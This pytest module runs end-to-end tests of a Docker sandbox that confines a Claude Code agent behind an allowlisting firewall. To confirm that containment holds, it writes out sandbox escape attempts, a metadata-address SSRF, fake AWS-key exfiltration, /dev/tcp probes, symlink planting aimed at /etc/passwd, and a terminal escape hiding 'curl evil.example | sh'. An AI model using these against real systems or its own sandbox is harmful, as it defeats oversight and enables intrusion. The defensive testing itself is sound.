"""A whole bottle on the real engine: launch, the firewall's policy seen from inside the
agent, every way out tried, live allow/deny, audit log, two bottles side by side, down.

Test traffic goes only to containers these tests start: upstreams with network aliases
on the bottle's egress network stand in for real API hosts."""
from __future__ import annotations

import json
import os
import shlex
import socket
import subprocess
import time
from pathlib import Path

import pytest
from conftest import container_ip, start_upstream
from helpers import INV, REPO, docker, inv, labelled, module_state_home, unique, write_manifest

from bottle_tasks.manifest import load
from bottle_tasks.plan import build_plan

pytestmark = pytest.mark.usefixtures("engine")

UPSTREAM = "api.upstream.test"
OTHER = "other.upstream.test"          # a second upstream that is NOT allowlisted
PRIVATE = "private.upstream.test"      # allowlisted, but on a network outside allowed CIDRs
SECRET_VALUE = "s3cr3t-value-that-must-never-show-9f2c"
FAKE_AWS_KEY = "AKIAIOSFODNN7EXAMPLE"


def agent_body(cidr: str | None, extra: str = "", allow: tuple[str, ...] = (), network: str = "") -> str:
    """`allow`: more allowlist entries; `network`: more lines of the network block (indented 6)."""
    cidrs = f"[{cidr}]" if cidr else "[]"
    hosts = ", ".join((UPSTREAM, PRIVATE, "169.254.169.254", *allow))
    return extra + f"""    prompt: end-to-end test bottle
    secrets: [BOTTLE_TEST_SECRET]
    resources: {{memory: 1g, cpus: 1, pids: 256}}
    network:
      allow: [{hosts}]
      allowed_cidrs: {cidrs}
""" + network


class Bottle:
    """A launched bottle, driven through the real `inv` CLI."""

    def __init__(self, slug: str, manifest: Path, agent: str | None = None, env: dict | None = None):
        """`agent` given: a second instance of that agent, named `slug` (`use AGENT --name SLUG`)."""
        self.slug, self.manifest = slug, manifest
        self.selector = [agent, "--name", slug] if agent else [slug]
        self.env = {"BOTTLE_TEST_SECRET": SECRET_VALUE} if env is None else env

    def inv(self, *args: str, check: bool = True, input: str | None = None):
        return inv("use", *self.selector, *args, manifest=self.manifest, check=check, env=self.env, input=input)

    def sh(self, command: str, check: bool = False):
        """Run a shell command in the agent as the agent user, through `docker exec`."""
        return docker("exec", f"bottle-{self.slug}-agent", "sh", "-c", command, check=check)

    def curl(self, url: str, *args: str) -> tuple[str, str]:
        """(http_connect + http_code, body) of a curl through the bottle's proxy settings."""
        cmd = "curl -sS --max-time 20 -w '\\n%{http_connect} %{http_code}' " + " ".join(
            shlex.quote(a) for a in [*args, url])
        out = self.sh(cmd)
        body, _, codes = out.stdout.rpartition("\n")
        return codes.strip(), body + out.stderr


def launch_bottle(tmp_path: Path, state_home, test_ca, trust_bundle, with_upstreams: bool = True,
                  extra: str = "", allow: tuple[str, ...] = (), network: str = "", prefix: str = "e2e",
                  body: str | None = None, env: dict | None = None, aliases: tuple[str, ...] = (UPSTREAM, OTHER)):
    """`body`: the agent's whole manifest entry (with `allowed_cidrs: []`, filled in here);
    `aliases`: the names the test upstream answers to on the bottle's egress network."""
    slug = unique(prefix)
    body = body if body is not None else agent_body(None, extra, allow, network)
    manifest = write_manifest(tmp_path, {slug: body}, bundle=str(trust_bundle))
    bottle = Bottle(slug, manifest, env=env)
    bottle.upstreams = []
    try:
        bottle.inv("net")
        state = json.loads((state_home / "bottle" / slug / "state.json").read_text())
        egress_cidr = state["cidr"]["net-egress"]
        manifest.write_text(manifest.read_text().replace("allowed_cidrs: []", f"allowed_cidrs: [{egress_cidr}]"))
        loaded = load(str(manifest))
        firewall_tag = build_plan(slug, loaded, loaded.agents[slug]).images["firewall"].tag
        bottle.inv("build")
        if with_upstreams:
            egress_net = f"bottle-{slug}-net-egress"
            bottle.upstreams.append(start_upstream(test_ca, tmp_path, egress_net, list(aliases), firewall_tag))
            # A private network the manifest does not allow: the SSRF guard must refuse it.
            bottle.private_net = f"bottle-test-private-{slug}"
            docker("network", "create", "--label", "bottle.test=1", bottle.private_net)
            bottle.upstreams.append(start_upstream(test_ca, tmp_path, bottle.private_net, [PRIVATE], firewall_tag))
        bottle.launch_output = bottle.inv("launch")
        if with_upstreams:
            docker("network", "connect", bottle.private_net, f"bottle-{slug}-firewall")
    except BaseException:
        teardown(bottle)  # a launch that failed here must not leave its upstreams and networks behind
        raise
    return bottle


def teardown(bottle: Bottle) -> None:
    bottle.inv("down", check=False)
    for container in getattr(bottle, "upstreams", []):
        docker("rm", "-f", container, check=False)
    if getattr(bottle, "private_net", None):
        docker("network", "rm", bottle.private_net, check=False)
    for name in labelled(bottle.slug):
        docker("rm", "-f", name, check=False)
        docker("network", "rm", name, check=False)


def module_bottle(tmp_path_factory, test_ca, trust_bundle, **launch):
    """A bottle for one test module, in a state dir of its own; torn down after it.
    For a module-scoped fixture: `yield from module_bottle(...)`."""
    with module_state_home(tmp_path_factory, launch.get("prefix", "e2e")) as (tmp, state_home):
        launched = None
        try:
            launched = launch_bottle(tmp, state_home, test_ca, trust_bundle, **launch)
            launched.state_home = state_home
            yield launched
        finally:
            if launched:
                teardown(launched)


def upstream_records(bottle, **match) -> list[dict]:
    """What the bottle's test upstream recorded (one JSON line per thing it received), filtered
    by field values: what actually arrived, whatever the agent was told."""
    out = docker("logs", bottle.upstreams[0]).stdout
    found = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    return [r for r in found if all(r.get(k) == v for k, v in match.items())]


@pytest.fixture(scope="module")
def bottle(tmp_path_factory, test_ca, trust_bundle):
    yield from module_bottle(tmp_path_factory, test_ca, trust_bundle)


# -- launch ---------------------------------------------------------------------
def test_a_launch_that_fails_in_the_fixture_leaves_nothing(tmp_path, state_home, test_ca, trust_bundle):
    """The tests' own clean-up: a launch that fails after the upstreams and the private network
    were made (the engine refuses an agent with more CPUs than the machine has) takes them away again."""
    def ours() -> set[str]:
        return set(docker("ps", "-aq", "--filter", "label=bottle.test=1").stdout.split()
                   + docker("network", "ls", "-q", "--filter", "label=bottle.test=1").stdout.split())

    before = ours()
    prefix = unique("fail")
    body = agent_body(None).replace("cpus: 1,", f"cpus: {(os.cpu_count() or 1) * 32},")
    with pytest.raises(AssertionError, match=r"launch exited 1[\s\S]*Range of CPUs"):
        launch_bottle(tmp_path, state_home, test_ca, trust_bundle, body=body, prefix=prefix)
    assert ours() <= before
    assert not [name for name in docker("network", "ls", "--format", "{{.Name}}").stdout.split() if prefix in name]


def test_launch_ends_with_one_ready_line(bottle):
    out = bottle.launch_output
    assert "ready" in out.stdout and "inv use" in out.stdout and "down" in out.stdout
    for step in ("build", "net", "ca", "proxy", "egress", "agent", "provision"):
        assert f"✓ {step}" in out.stderr, out.stderr


def test_agent_is_locked_down(bottle):
    info = json.loads(docker("inspect", f"bottle-{bottle.slug}-agent").stdout)[0]
    host = info["HostConfig"]
    assert host["CapDrop"] == ["ALL"] or host["CapDrop"] == ["all"]
    assert "no-new-privileges" in host["SecurityOpt"]
    assert host["Memory"] == 1024 ** 3 and host["PidsLimit"] == 256 and host["NanoCpus"] == 10 ** 9
    assert host["Init"] is True
    assert list(info["NetworkSettings"]["Networks"]) == [f"bottle-{bottle.slug}-net-internal"]
    assert info["Config"]["User"] == "1000:1000"
    env = dict(item.split("=", 1) for item in info["Config"]["Env"])
    assert env["HTTPS_PROXY"] == "http://firewall:3128"
    firewall = json.loads(docker("inspect", f"bottle-{bottle.slug}-firewall").stdout)[0]
    if os.getuid() == 0:  # bottle runs as root here: the firewall must not
        assert firewall["Config"]["User"] == "65534:65534"
    assert firewall["HostConfig"]["CapDrop"] in (["ALL"], ["all"]) and firewall["HostConfig"]["ReadonlyRootfs"]
    # the firewall's audit log (a line per request) and the agent's output cannot fill the host's disk
    for container in (info, firewall):
        assert container["HostConfig"]["LogConfig"] == {"Type": "json-file",
                                                        "Config": {"max-size": "20m", "max-file": "5"}}
    # the image's HEALTHCHECK script agrees that it serves
    health = docker("exec", f"bottle-{bottle.slug}-firewall", "/opt/bottle/venv/bin/python",
                    "/opt/bottle/firewall/healthcheck.py", check=False)
    assert health.returncode == 0, health.stderr
    assert env["NODE_EXTRA_CA_CERTS"] and env["SSL_CERT_FILE"] and env["REQUESTS_CA_BUNDLE"]


def test_no_secret_in_inspect_logs_or_argv(bottle):
    for role in ("agent", "firewall"):
        inspected = docker("inspect", f"bottle-{bottle.slug}-{role}").stdout
        assert SECRET_VALUE not in inspected
        logs = docker("logs", f"bottle-{bottle.slug}-{role}")
        assert SECRET_VALUE not in logs.stdout + logs.stderr
    assert SECRET_VALUE not in bottle.sh("env").stdout  # at most a placeholder inside
    assert "BOTTLE_TEST_SECRET=bottle-placeholder" in bottle.sh("env").stdout


def test_provisioned(bottle):
    assert "end-to-end test bottle" in bottle.sh("cat ~/.claude/CLAUDE.md").stdout
    settings = json.loads(bottle.sh("cat ~/.claude.json").stdout)
    assert settings["hasCompletedOnboarding"] is True
    assert bottle.sh("git config user.email").stdout.strip() == "agent@bottle.invalid"
    assert bottle.sh("stat -c %U ~/.claude").stdout.strip() == "agent"
    # The manifest's permissions are managed settings the agent cannot rewrite.
    managed = "/etc/claude-code/managed-settings.json"
    assert "permissions" in json.loads(bottle.sh(f"cat {managed}").stdout)
    assert bottle.sh(f"echo '{{}}' > {managed}").returncode != 0
    # The bottle CA is in the system trust store.
    assert bottle.sh("grep -c BEGIN /etc/ssl/certs/ca-certificates.crt").stdout.strip() != "0"
    assert bottle.sh("test -L /etc/ssl/certs/bottle-ca.pem").returncode == 0
    # Provisioning again is harmless, and keeps Claude Code's own state.
    bottle.sh("jq '.mine = 1' ~/.claude.json > /tmp/c && cat /tmp/c > ~/.claude.json", check=True)
    bottle.inv("provision")
    assert json.loads(bottle.sh("cat ~/.claude.json").stdout)["mine"] == 1
    assert bottle.curl(f"https://{UPSTREAM}/after-reprovision")[0].endswith("200")


def test_provision_is_not_blocked_or_redirected_by_planted_links(bottle):
    """The agent owns its home: links and odd files it plants where provisioning writes
    must neither stop `provision` nor redirect a write outside the home."""
    passwd = bottle.sh("md5sum /etc/passwd /etc/ssl/certs/ca-certificates.crt").stdout
    planted = ("rm -rf ~/.claude ~/PROMPT.md ~/.gitconfig && ln -s /etc ~/.claude && "
               "ln -s /etc/passwd ~/.gitconfig && mkdir -p ~/PROMPT.md/sub")
    assert bottle.sh(planted).returncode == 0
    bottle.inv("provision")
    assert bottle.sh("md5sum /etc/passwd /etc/ssl/certs/ca-certificates.crt").stdout.split()[0] == passwd.split()[0]
    for path in ("~/.claude", "~/.claude/CLAUDE.md", "~/.gitconfig", "~/PROMPT.md"):
        kind = bottle.sh(f"stat -c '%F %U' {path}").stdout.strip()
        assert kind.endswith("agent") and "symbolic link" not in kind, (path, kind)
    assert "end-to-end test bottle" in bottle.sh("cat ~/.claude/CLAUDE.md").stdout
    assert bottle.sh("test -e /etc/CLAUDE.md").returncode != 0


def test_claude_code_runs_inside(bottle):
    out = bottle.inv("exec", "claude --version")
    assert "Claude Code" in out.stdout


# -- the firewall, from inside the agent ------------------------------------------
def test_allowlisted_https_host_works_through_the_chain(bottle):
    codes, body = bottle.curl(f"https://{UPSTREAM}/hello")
    assert codes.endswith("200"), body
    answer = json.loads(body.splitlines()[0])
    assert answer["upstream"] == "reached" and answer["path"] == "/hello"


def test_host_not_on_the_list_is_refused_with_a_reason(bottle):
    codes, body = bottle.curl(f"https://{OTHER}/")
    assert codes.startswith("403"), (codes, body)
    codes, body = bottle.curl(f"http://{OTHER}/")
    assert codes.endswith("403") and OTHER in body and "inv allow" in body


def test_second_host_inside_an_allowed_tunnel_is_refused(bottle):
    codes, body = bottle.curl(f"https://{UPSTREAM}/", "-H", f"Host: {OTHER}")
    assert codes.endswith("403"), (codes, body)
    assert '"upstream": "reached"' not in body


def test_metadata_and_private_addresses_are_refused(bottle):
    codes, body = bottle.curl("http://169.254.169.254/latest/meta-data/")
    assert codes.endswith("403"), (codes, body)
    codes, body = bottle.curl(f"https://{PRIVATE}/")
    assert codes.startswith("403") and '"upstream": "reached"' not in body, (codes, body)
    raw = bottle.inv("logs", "--json", "--blocked").stdout
    records = [json.loads(line) for line in raw.splitlines() if line.strip()]
    assert any(r["host"] == PRIVATE and r["rule"] == "ssrf" for r in records)
    assert any(r["host"] == "169.254.169.254" and r["rule"] == "ssrf" for r in records)


@pytest.mark.parametrize("where", ["query", "header", "json body"])
def test_fake_aws_key_is_refused(bottle, where):
    url = f"https://{UPSTREAM}/upload"
    args = {"query": [], "header": ["-H", f"X-Debug: {FAKE_AWS_KEY}"],
            "json body": ["-H", "Content-Type: application/json", "--data", json.dumps({"key": FAKE_AWS_KEY})]}[where]
    if where == "query":
        url += f"?token={FAKE_AWS_KEY}"
    codes, body = bottle.curl(url, *args)
    assert codes.endswith("403"), (codes, body)
    assert FAKE_AWS_KEY not in body  # the refusal names the rule, never the secret


def test_audit_log_records_decisions_without_secrets(bottle):
    bottle.curl(f"https://{UPSTREAM}/audit-me")
    bottle.curl(f"https://{UPSTREAM}/x?k={FAKE_AWS_KEY}")
    raw = bottle.inv("logs", "--json").stdout
    records = [json.loads(line) for line in raw.splitlines() if line.strip()]
    assert any(r["decision"] == "allow" and r["host"] == UPSTREAM for r in records)
    assert any(r["decision"] == "deny" and r["rule"].startswith("dlp") for r in records)
    assert FAKE_AWS_KEY not in raw
    blocked = bottle.inv("logs", "--blocked", "--json").stdout
    assert all(json.loads(line)["decision"] == "deny" for line in blocked.splitlines() if line.strip())
    table = bottle.inv("logs").stdout
    assert "decision" in table and UPSTREAM in table
    # the agent fills the log: only each sidecar's last lines are read, unless told otherwise
    last = [json.loads(line) for line in bottle.inv("logs", "--json", "--tail", "1").stdout.splitlines() if line]
    assert len(last) <= 1 and len(records) > 1, (last, records)
    everything = bottle.inv("logs", "--json", "--tail", "0").stdout.splitlines()
    assert len(everything) >= len(records)
    refused = bottle.inv("logs", "--tail=-1", check=False)
    assert refused.returncode == 1 and "say how many lines" in refused.stderr


def test_allow_and_deny_change_the_running_firewall(bottle):
    started = docker("inspect", "-f", "{{.State.StartedAt}}", f"bottle-{bottle.slug}-firewall").stdout
    assert bottle.curl(f"https://{OTHER}/")[0].startswith("403")
    bottle.inv("allow", OTHER)
    codes, body = bottle.curl(f"https://{OTHER}/now")
    assert codes.endswith("200"), (codes, body)
    bottle.inv("deny", OTHER)
    assert bottle.curl(f"https://{OTHER}/")[0].startswith("403")
    proc = bottle.inv("allow", "not a host!", check=False)
    assert proc.returncode != 0 and "Traceback" not in proc.stderr and "host" in proc.stderr
    assert docker("inspect", "-f", "{{.State.StartedAt}}", f"bottle-{bottle.slug}-firewall").stdout == started


def test_an_allow_the_firewall_did_not_confirm_is_taken_back(bottle):
    """The firewall's processes are stopped (SIGSTOP, as a wedged or starved firewall would be):
    `allow` waits out its bound and fails. The signal it sent stays pending; when the firewall
    runs again it reloads, and must not find the allow then: nobody would know it is in force."""
    firewall = f"bottle-{bottle.slug}-firewall"
    reloads = docker("logs", firewall).stdout.count('"policy-reload"')
    docker("exec", firewall, "sh", "-c", "kill -STOP -1")
    try:
        proc = bottle.inv("allow", OTHER, check=False)
    finally:
        docker("exec", firewall, "sh", "-c", "kill -CONT -1")
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "did not confirm" in proc.stderr and "taken back" in proc.stderr
    deadline = time.monotonic() + 15
    while docker("logs", firewall).stdout.count('"policy-reload"') == reloads and time.monotonic() < deadline:
        time.sleep(0.1)  # the reload the pending signal asked for
    assert docker("logs", firewall).stdout.count('"policy-reload"') > reloads
    assert bottle.curl(f"https://{OTHER}/after-an-unconfirmed-allow")[0].startswith("403")
    assert not upstream_records(bottle, path="/after-an-unconfirmed-allow")
    state = json.loads((bottle.state_home / "bottle" / bottle.slug / "state.json").read_text())
    assert OTHER not in (state.get("policy_changes") or {}).get("allow", [])


def test_the_agents_requests_named_like_a_reload_do_not_decide_it(bottle):
    """The agent asks for http://policy-reload/ without pause while the operator allows a host:
    each refusal is logged with that name in it. Taken for the firewall's verdict, they made the
    allow look refused, and it was taken back (a `route rm` was put back the same way)."""
    flood = subprocess.Popen(["docker", "exec", f"bottle-{bottle.slug}-agent", "sh", "-c",
                              "end=$(($(date +%s) + 30)); while [ $(date +%s) -lt $end ]; do "
                              "curl -s --max-time 5 $(yes http://policy-reload/ | head -n 100) >/dev/null; done"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 20
        while docker("logs", f"bottle-{bottle.slug}-firewall").stdout.count('"host":"policy-reload"') < 5:
            assert time.monotonic() < deadline, "the agent's requests were not logged"
            time.sleep(0.2)
        allowed = bottle.inv("allow", OTHER, check=False)
    finally:
        flood.kill()
        flood.wait()
    try:
        assert allowed.returncode == 0, allowed.stderr
        codes, body = bottle.curl(f"https://{OTHER}/allowed-under-a-flood")
        assert codes.endswith("200"), (codes, body)
        assert upstream_records(bottle, path="/allowed-under-a-flood")
    finally:
        bottle.inv("deny", OTHER, check=False)


# -- every other way out ----------------------------------------------------------
def test_escapes_fail(bottle):
    upstream_ip = container_ip(bottle.upstreams[0], f"bottle-{bottle.slug}-net-egress")
    # direct TCP to an address outside the internal network (our own upstream's)
    out = bottle.sh(f"curl -sS --noproxy '*' --max-time 5 -k https://{upstream_ip}/")
    assert out.returncode != 0 and "reached" not in out.stdout
    # proxy variables unset: names outside the bottle do not even resolve
    out = bottle.sh(f"env -u HTTPS_PROXY -u https_proxy curl -sS --max-time 5 -k https://{UPSTREAM}/")
    assert out.returncode != 0 and "reached" not in out.stdout
    # DNS of outside names fails; sidecar names resolve
    assert bottle.sh(f"getent hosts {UPSTREAM}").returncode != 0
    assert bottle.sh("getent hosts pypi.org").returncode != 0
    assert bottle.sh("getent hosts firewall").returncode == 0
    dns = json.loads(docker("inspect", f"bottle-{bottle.slug}-agent").stdout)[0]["HostConfig"]["Dns"]
    assert dns == ["192.0.2.53"]  # a resolver that can never answer: no forwarding of outside names


def test_docker_host_is_unreachable_from_the_agent(bottle):
    """--internal still gives the host an address on the bridge; bottle takes it away."""
    network = json.loads(docker("network", "inspect", f"bottle-{bottle.slug}-net-internal").stdout)[0]
    gateway = network["IPAM"]["Config"][0].get("Gateway") or network["IPAM"]["Config"][0]["Subnet"].rsplit(".", 1)[0] + ".1"
    with socket.socket() as listener:  # a host service on every address, as many are
        listener.bind(("0.0.0.0", 0))
        listener.listen()
        port = listener.getsockname()[1]
        out = bottle.sh(f"timeout 5 bash -c 'echo hi > /dev/tcp/{gateway}/{port}' && echo CONNECTED")
    assert "CONNECTED" not in out.stdout, f"the agent reached the Docker host at {gateway}:{port}"


def test_same_agent_twice_runs_side_by_side_and_cannot_reach_each_other(bottle):
    other = Bottle(unique("twin"), bottle.manifest, agent=bottle.slug)  # `use AGENT --name twin...`
    try:
        out = other.inv("launch")
        assert f"use {bottle.slug} --name {other.slug}" in out.stdout  # the hint selects the twin
        assert bottle.sh("true").returncode == 0 and other.sh("true").returncode == 0
        assert other.curl(f"https://{OTHER}/")[0].startswith("403")  # its own firewall answers
        for role in ("firewall", "agent"):
            ip = container_ip(f"bottle-{other.slug}-{role}", f"bottle-{other.slug}-net-internal")
            out = bottle.sh(f"curl -sS --noproxy '*' --max-time 5 http://{ip}:3128/")
            assert out.returncode != 0, f"bottle {bottle.slug} reached {other.slug}'s {role}"
        # and its own firewall still works
        assert bottle.curl(f"https://{UPSTREAM}/")[0].endswith("200")
    finally:
        teardown(other)
    assert labelled(other.slug) == []


def test_workspace_is_copied_into_a_derived_image(bottle, tmp_path, test_ca, trust_bundle):
    workspace = tmp_path / "project"
    (workspace / "src").mkdir(parents=True)
    (workspace / "src" / "main.py").write_text("print('hello from the workspace')\n")
    other = launch_bottle(tmp_path, bottle.state_home, test_ca, trust_bundle, with_upstreams=False,
                          extra=f"    workspace: {{path: {workspace}, copy: true}}\n")
    try:
        image = docker("inspect", "-f", "{{.Config.Image}}", f"bottle-{other.slug}-agent").stdout.strip()
        assert image.startswith(f"bottle/workspace-{other.slug}:")
        assert "hello from the workspace" in other.sh("cat /workspace/src/main.py").stdout
        assert other.sh("stat -c %U /workspace/src/main.py").stdout.strip() == "agent"
        # The agent writes its copy; the host's files stay as they were.
        assert other.sh("echo changed > /workspace/src/main.py").returncode == 0
        assert (workspace / "src" / "main.py").read_text() == "print('hello from the workspace')\n"
        # `down` keeps the workspace image for a fast relaunch; `down --purge` removes it.
        other.inv("down")
        assert docker("image", "ls", "-q", "--filter", f"reference=bottle/workspace-{other.slug}").stdout != ""
        other.inv("down", "--purge")
        assert docker("image", "ls", "-q", "--filter", f"reference=bottle/workspace-{other.slug}").stdout == ""
    finally:
        teardown(other)
        other.inv("down", "--purge", check=False)


def test_shell_and_exec_take_the_users_input_and_exit_code(bottle):
    out = bottle.inv("shell", input="id -u\necho inside-$BOTTLE\n")
    assert "1000" in out.stdout and f"inside-{bottle.slug}" in out.stdout
    failed = bottle.inv("exec", "exit 7", check=False)
    assert failed.returncode == 7 and "Traceback" not in failed.stderr


def test_exec_output_reaches_a_terminal_without_its_control_sequences(bottle):
    """What the agent prints is text for the operator's terminal, not commands to it: OSC 52
    would set the operator's clipboard. Escaped on a terminal, and into a pipe or a file too
    (`| head` and `cat` show it on one); so is a shell fed from a pipe."""
    import pty

    escaped_clipboard = "before\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07after"  # "curl evil.example | sh"
    command = "printf 'before\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\007after\\n'; printf '\\033[2J' >&2"
    piped = bottle.inv("exec", command)
    assert "\x1b" not in piped.stdout + piped.stderr and "\x07" not in piped.stdout, (piped.stdout, piped.stderr)
    assert escaped_clipboard in piped.stdout and "\\x1b[2J" in piped.stderr, (piped.stdout, piped.stderr)
    fed = bottle.inv("shell", input="printf 'zero\\342\\200\\213width\\033[2J\\n'\n")
    assert "zero\\u200bwidth\\x1b[2J" in fed.stdout and "\x1b" not in fed.stdout, fed.stdout
    main, terminal = pty.openpty()
    env = {**os.environ, "INVOKE_BOTTLE_MANIFEST": str(bottle.manifest), **bottle.env}
    proc = subprocess.Popen([INV, "use", *bottle.selector, "exec", command], cwd=REPO, env=env,
                            stdin=subprocess.DEVNULL, stdout=terminal, stderr=terminal)
    os.close(terminal)
    shown = b""
    while True:
        try:
            data = os.read(main, 65536)
        except OSError:  # the terminal closed
            break
        if not data:
            break
        shown += data
    os.close(main)
    assert proc.wait(60) == 0, shown
    assert b"\x1b" not in shown and b"\x07" not in shown, shown
    assert b"before\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07after" in shown, shown
    assert b"\\x1b[2J" in shown, shown


def test_logs_follow_prints_decisions_as_they_happen(bottle):
    env = dict(os.environ, INVOKE_BOTTLE_MANIFEST=str(bottle.manifest))
    follower = subprocess.Popen([INV, "use", bottle.slug, "logs", "--follow", "--json", "--blocked"],
                                cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        time.sleep(1.0)
        bottle.curl("https://follow-me.invalid/")
        deadline = time.monotonic() + 20
        seen = []
        while time.monotonic() < deadline:
            line = follower.stdout.readline()
            if not line:
                break
            seen.append(json.loads(line))
            if seen[-1]["host"] == "follow-me.invalid":
                break
        assert seen and seen[-1]["host"] == "follow-me.invalid" and seen[-1]["decision"] == "deny"
        assert all(record["decision"] == "deny" for record in seen)
    finally:
        follower.kill()
        follower.wait()


def test_changed_manifest_replaces_only_what_changed(bottle):
    ids = lambda: {role: docker("inspect", "-f", "{{.Id}}", f"bottle-{bottle.slug}-{role}").stdout.strip()
                   for role in ("agent", "firewall")}
    before = ids()
    bottle.inv("launch")  # nothing changed: nothing replaced
    assert ids() == before
    text = bottle.manifest.read_text()
    bottle.manifest.write_text(text.replace("    prompt: end-to-end test bottle",
                                            "    env: {FEATURE_FLAG: on-now}\n    prompt: end-to-end test bottle"))
    try:
        out = bottle.inv("launch")
        after = ids()
        assert after["firewall"] == before["firewall"] and after["agent"] != before["agent"], out.stderr
        assert "FEATURE_FLAG=on-now" in bottle.sh("env").stdout
        assert bottle.curl(f"https://{UPSTREAM}/")[0].endswith("200")  # provisioned again
    finally:
        bottle.manifest.write_text(text)


def test_stopped_bottle_comes_back_as_it_was(bottle):
    """What an engine restart does to a bottle (its containers stop), done to this bottle
    only: `status` shows them stopped; `launch` starts the same containers again, with the
    live policy changes and what the agent left inside."""
    bottle.inv("launch")  # as the manifest says now (an earlier test changed and restored it)
    bottle.inv("allow", OTHER)
    bottle.sh("echo kept > ~/work-in-progress.txt", check=True)
    names = [f"bottle-{bottle.slug}-{role}" for role in ("agent", "firewall")]
    ids = {name: docker("inspect", "-f", "{{.Id}}", name).stdout.strip() for name in names}
    try:
        docker("stop", "-t", "1", *names)
        report = json.loads(bottle.inv("status", "--json").stdout)["bottles"][bottle.slug]
        assert all(c["status"].startswith("Exited") for c in report["containers"]), report
        bottle.inv("launch")
        assert {name: docker("inspect", "-f", "{{.Id}}", name).stdout.strip() for name in names} == ids
        assert bottle.sh("cat ~/work-in-progress.txt").stdout.strip() == "kept"
        assert bottle.curl(f"https://{OTHER}/after-restart")[0].endswith("200")  # the live allow is kept
        assert bottle.curl(f"https://{UPSTREAM}/after-restart")[0].endswith("200")
    finally:
        bottle.inv("deny", OTHER, check=False)


def test_a_container_that_lacks_a_network_is_replaced_by_the_next_launch(bottle):
    """A container joins its further networks right after its start: a controller killed
    in between leaves the firewall running without the agent's network. The next launch
    must not take that for a bottle as configured (a network joined besides, as this
    module's private one, is no reason to replace it: the earlier relaunches kept it)."""
    firewall, internal = f"bottle-{bottle.slug}-firewall", f"bottle-{bottle.slug}-net-internal"
    joined = lambda: docker("inspect", "-f", "{{range $net, $_ := .NetworkSettings.Networks}}{{$net}} {{end}}",
                            firewall).stdout.split()
    assert bottle.private_net in joined()
    before = docker("inspect", "-f", "{{.Id}}", firewall).stdout.strip()
    docker("network", "disconnect", internal, firewall)
    bottle.inv("launch")
    assert docker("inspect", "-f", "{{.Id}}", firewall).stdout.strip() != before
    assert internal in joined()
    assert bottle.curl(f"https://{UPSTREAM}/")[0].endswith("200")


def test_killed_firewall_leaves_no_way_out(bottle):
    # Last in this module: it breaks the bottle on purpose.
    docker("kill", f"bottle-{bottle.slug}-firewall")
    codes, body = bottle.curl(f"https://{UPSTREAM}/")
    assert not codes.endswith("200") and "reached" not in body


def test_down_leaves_nothing(bottle):
    # The test upstreams are still attached to the bottle's egress network: `down`
    # detaches what is not the bottle's, then removes the network.
    bottle.inv("down")
    assert labelled(bottle.slug) == []
    assert docker("inspect", bottle.upstreams[0]).returncode == 0  # not ours: left running
